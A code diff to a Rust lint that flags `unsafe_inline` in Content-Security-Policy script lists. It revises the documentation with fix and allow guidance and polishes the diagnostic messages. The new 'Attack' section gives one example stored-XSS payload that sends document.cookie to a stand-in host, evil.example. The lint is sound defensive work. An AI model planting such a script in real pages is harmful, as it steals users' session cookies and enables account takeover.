@@ -6,13 +6,22 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for `unsafe_inline` in the list that decides about scripts, where no nonce, no hash and no
-    /// `strict_dynamic` makes browsers ignore it.
+    /// Looks for `unsafe_inline` in the list that takes effect for scripts. Next to a nonce, a hash or
+    /// `strict_dynamic`, browsers ignore it, and it is not reported.
     ///
     /// # Why it matters
     ///
-    /// Cross-site scripting is inline script that someone else wrote. A policy that allows all inline script allows
-    /// that one too: it no longer stops what Content-Security-Policy was made to stop.
+    /// Cross-site scripting is inline script from an attacker. Browsers cannot tell it from the site's own inline
+    /// scripts, so a policy with `unsafe_inline` runs both: it no longer stops what Content-Security-Policy was made to
+    /// stop.
+    ///
+    /// # Attack
+    ///
+    /// A comment that is shown without escaping:
+    ///
+    /// ```html
+    /// Nice shop! <script>fetch("https://evil.example/?" + document.cookie)</script>
+    /// ```
     ///
     /// # Example
     ///
@@ -20,18 +29,31 @@ lint! {
     /// content_security_policy: { script_src: [self, unsafe_inline] }
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Write `nonce`, and the nonce on each of the page's script elements: `<script nonce="…">`. Replace event handlers
+    /// such as `onclick="…"` by `addEventListener`.
     ///
     /// ```text
     /// content_security_policy: { script_src: [self, nonce] }
     /// ```
     ///
-    /// Beside a nonce or a hash, `unsafe_inline` is a fallback for browsers from before 2016 and stays quiet.
+    /// As a fallback for browsers from before 2016, `unsafe_inline` may follow the nonce.
+    ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_script_unsafe_inline, reason = "the CMS writes inline scripts, replaced by the end of May")]
+    /// script_src: [self, unsafe_inline],
+    /// ```
+    ///
+    /// Reasonable only for pages without text from users or URLs, and for a limited time.
     ///
     /// # References
     ///
-    /// - [CSP3, section 6.7.3.2](https://w3c.github.io/webappsec-csp/#allow-all-inline)
-    Deny "inline scripts of every origin run", check
+    /// - [CSP3, section 6.7.3.2, when inline code is allowed](https://w3c.github.io/webappsec-csp/#allow-all-inline)
+    /// - [web.dev, Mitigate XSS with a strict CSP](https://web.dev/articles/strict-csp)
+    Deny "injected inline scripts run", check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -41,14 +63,15 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
         span.map(|span| (span, list.directive.node)).into_iter().collect()
     });
     for (span, directive) in weaknesses {
-        let message = format!("`unsafe_inline` in `{}` runs every inline script, an injected one too", directive.key());
+        let message =
+            format!("`unsafe_inline` in `{}` runs every inline script, including an injected one", directive.key());
         let help = match directive {
             Directive::ScriptSrcAttr => "use `addEventListener` in a script, and write `script_src_attr: none`",
             _ => {
                 "use `nonce`, and write it on each script element: `<script nonce=\"…\">`; or list the scripts' hashes"
             }
         };
-        let note = "cross-site scripting is inline script, so this policy would not stop it";
+        let note = "cross-site scripting is inline script, so this policy does not stop it";
         report.push(Diagnostic::finding(span, message).help(help).note(note));
     }
 }
